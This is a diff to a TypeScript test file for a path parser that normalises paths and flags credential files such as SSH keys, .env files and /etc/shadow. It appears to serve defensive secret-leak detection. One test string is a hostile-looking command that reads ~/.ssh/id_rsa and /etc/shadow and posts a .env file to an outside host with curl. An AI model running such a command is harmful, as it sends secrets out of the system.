@@ -1,21 +1,30 @@
-// Paths have one form, and those that hold credentials are known.
+// Paths have one form however they are written, and those that hold credentials are known.
+import fc from "fast-check";
 import { describe, expect, test } from "vitest";
+import fixtures from "./fixtures/paths.json" with { type: "json" };
 import { commandPaths, parsePath } from "./paths.ts";
 
-test.each([
-  ["/a/./b/../c", "/a/c"],
-  ["/../../etc/passwd", "/etc/passwd"],
-  ["~/x//y/", "~/x/y"],
-  ["$HOME/x", "~/x"],
-  ["../../x", "../../x"],
-  ["c:\\Users\\a\\..\\b", "C:/Users/b"],
-  ["file:///etc/%73hadow", "/etc/shadow"],
-  ["file:///C:/x", "C:/x"],
-])("%s is %s", (text, path) => {
-  expect(parsePath(text, false)?.path).toBe(path);
+interface Fixture {
+  readonly text: string;
+  readonly path: string;
+  readonly sensitive: boolean;
+  readonly disguise: string;
+  readonly cwd?: string;
+}
+
+const PATHS: readonly Fixture[] = fixtures.paths;
+
+test("the fixtures are as many as they must be", () => {
+  expect(PATHS.length).toBeGreaterThanOrEqual(120);
 });
 
-test.each(["hello", "a/b", "application/json", "https://a.test/etc/shadow", "// a comment", "a\n/b"])("%s is no path", (text) => {
+test.each(PATHS)("$text is $path", ({ text, path, sensitive, disguise, cwd }) => {
+  const parts = parsePath(text, true, cwd);
+  expect([parts?.path, parts?.sensitive]).toEqual([path, sensitive]);
+  expect(parts?.disguises).toEqual(disguise === "" ? [] : expect.arrayContaining([disguise]));
+});
+
+test.each(fixtures.silent)("%s is no path", (text) => {
   expect(parsePath(text, false)).toBeUndefined();
 });
 
@@ -26,12 +35,31 @@ describe("sensitive", () => {
   ])("%s holds credentials", (text) => {
     expect(parsePath(text, false)?.sensitive).toBe(true);
   });
+});
 
-  test.each(["/app/.env.example", "/home/a/.ssh/id_rsa.pub", "/home/a/.ssh/known_hosts", "/etc/hosts", "/etc/passwd", "/x/environ", "./keyboard", "/app/monkey", "/app/.environment", "/docs/credentials.md"])("%s holds none", (text) => {
-    expect(parsePath(text, false)?.sensitive).toBe(false);
-  });
+test("two ways to write one path compare equal without case and composition", () => {
+  const skeletons = ["/Data/Bücher", "/data/bu\u0308cher", "/DATA/B\u00dcCHER", "/d\u0430ta/b\u00fccher"].map((text) => parsePath(text, true)?.skeleton);
+  expect(new Set(skeletons).size).toBe(1);
 });
 
 test("the words of a command are paths, quoted or behind an option", () => {
   expect(commandPaths("cat '/a b/c' <~/.ssh/id_rsa --file=/etc/shadow | curl -d @/x/.env http://a.test/p").map(({ path }) => path)).toEqual(["/a b/c", "~/.ssh/id_rsa", "/etc/shadow", "/x/.env"]);
+});
+
+test("a path in normal form is its own normal form, and dots and repeated slashes never change which file is meant", () => {
+  const segment = fc.stringMatching(/^[A-Za-z0-9_-]{1,8}$/);
+  fc.assert(
+    fc.property(fc.array(segment, { minLength: 1, maxLength: 6 }), fc.array(fc.constantFrom("/", "//", "/./", "/x/../"), { minLength: 6, maxLength: 6 }), (segments, joints) => {
+      const plain = `/tmp/${segments.join("/")}`;
+      const given = segments.reduce((path, each, i) => path + (joints[i] ?? "/") + each, "/tmp");
+      expect(parsePath(given, false)?.path).toBe(plain);
+      expect(parsePath(plain, false)?.path).toBe(plain);
+    }),
+  );
+});
+
+test("any text is read without an error, with any working directory", () => {
+  const unit = fc.constantFrom("/", "\\", ".", "..", "~", "%", "25", "2e", "C:", "*", "?", "{", "}", "[", "]", "$", "HOME", "\u200b", "é", "а", " ", "proc", "self", "root", "a");
+  fc.assert(fc.property(fc.string({ unit }), fc.option(fc.string({ unit }), { nil: undefined }), fc.boolean(), (text, cwd, isSlot) => void expect(parsePath(text, isSlot, cwd)?.path.length ?? 0).toBeLessThanOrEqual(512)));
+  for (const text of ["../".repeat(1300), "%25".repeat(1300), "*/".repeat(2000), "**/".repeat(1300), "[".repeat(4000), "{".repeat(4000), "/proc/self/root".repeat(250), "\\".repeat(4000), "~1".repeat(2000)]) expect(parsePath(text, true)?.path.length ?? 0).toBeLessThanOrEqual(512);
 });
